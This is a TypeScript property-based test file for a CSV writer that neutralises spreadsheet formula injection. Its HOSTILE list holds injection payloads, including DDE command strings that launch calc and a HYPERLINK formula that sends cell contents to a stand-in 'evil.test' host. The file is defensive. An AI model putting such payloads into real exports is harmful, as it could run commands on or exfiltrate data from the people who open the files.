import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, inertText, metadataLine, type Cell } from './csv';

const READING = { comment: '#', record_delimiter: '\r\n' };
const read = (csv: string): string[][] => parse(csv, READING);

const text = fc.oneof(
	fc.string({ unit: 'binary' }),
	fc.string({
		unit: fc.constantFrom('"', ',', ';', '#', '\r', '\n', '\t', '\0', ' ', '=', '-', '＝', 'a', '🥰')
	})
);
const cell: fc.Arbitrary<Cell> = fc.oneof(
	text,
	fc.integer(),
	fc.double({ noNaN: true, noDefaultInfinity: true }),
	fc.boolean(),
	fc.constant(null)
);

/** What a spreadsheet takes for a formula, once it has dropped what it does not see. */
const COMPUTED = /^[\s\p{Cc}\p{Cf}"]*[=＝]|^[\s\p{Cc}\p{Cf}"]*[+\-@＋－＠][\p{L}\p{N}(]/u;

const HOSTILE = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\0=1+1',
	' =1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'\u202e=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
	"=cmd|'/C calc'!A0",
	'=HYPERLINK("https://evil.test?x="&A1,"click")',
	'"=1+1"',
	'",=1+1,"',
	'hello\r\n=1+1',
	'hello;=1+1;x',
	'hello;"=1+1";x',
	'hello\t=1+1',
	'#=1+1',
	"'=1+1",
	"-2+3+cmd|' /C calc'!A0"
];

describe('a line of CSV', () => {
	it('gives its cells back to any reader, texts as they were made inert', () => {
		fc.assert(
			fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { maxLength: 6 }), (rows) => {
				const columns = Math.max(2, ...rows.map((row) => row.length));
				const full = rows.map((row) => [...row, ...Array<Cell>(columns - row.length).fill(null)]);
				const expected = full.map((row) =>
					row.map((value) =>
						typeof value === 'string' ? inertText(value) : value === null ? '' : String(value)
					)
				);
				expect(read(full.map(csvLine).join(''))).toEqual(expected);
			})
		);
	});

	it('ends with CR LF and quotes what RFC 4180 wants quoted', () => {
		expect(csvLine(['a', 'b,c', 'd"e', 'f\ng'])).toBe('a,"b,c","d""e","f\ng"\r\n');
	});

	it('keeps a keyword that begins with a number sign from being read as a comment', () => {
		expect(read(csvLine(['#fail', 3]) + csvLine(['so #fail', 4]))).toEqual([
			['#fail', '3'],
			['so #fail', '4']
		]);
	});

	it('leaves our own negative numbers numbers, and guards a text that looks like one', () => {
		expect(csvLine([-0.25, '-0.25', 1e-7, Number.NaN])).toBe("-0.25,'-0.25,1e-7,\r\n");
	});

	it('writes a list with commas in one cell', () => {
		expect(csvLine([['urgent', 'vip'], true, null])).toBe('"urgent, vip",true,\r\n');
	});
});

describe('other people’s text', () => {
	it.each(HOSTILE)(
		'%j is inert in the first cell, in a later one, and however a spreadsheet cuts it',
		(hostile) => {
			const line = csvLine([hostile, 'x', hostile]);
			const [cells] = read(line);
			expect(cells).toEqual([inertText(hostile), 'x', inertText(hostile)]);
			for (const shown of cells!) expect(shown).not.toMatch(COMPUTED);
			for (const part of line.split(/[;\t\r\n]/)) expect(part).not.toMatch(COMPUTED);
		}
	);

	it('is never computed, whatever it is', () => {
		fc.assert(
			fc.property(text, (words) => {
				expect(inertText(words)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u);
			})
		);
	});

	it('stays as it is when no spreadsheet would compute it', () => {
		for (const words of ['good, thanks', 'fine ;-)', 'a = b', '10 - 4', 'me@home', 'one\n- two']) {
			expect(inertText(words)).toBe(words);
		}
	});
});

describe('a line of metadata', () => {
	it('is one comment line, and opens no formula where a spreadsheet cuts it', () => {
		fc.assert(
			fc.property(text, (words) => {
				const line = metadataLine(`Mentions: ${words}`);
				expect(line.startsWith('# ')).toBe(true);
				expect(line.slice(0, -2)).not.toMatch(/[\r\n]/);
				expect(read(line + csvLine(['a', 'b']))).toEqual([['a', 'b']]);
				for (const part of line.split(/[,;\t]/)) expect(part).not.toMatch(COMPUTED);
			})
		);
	});
});
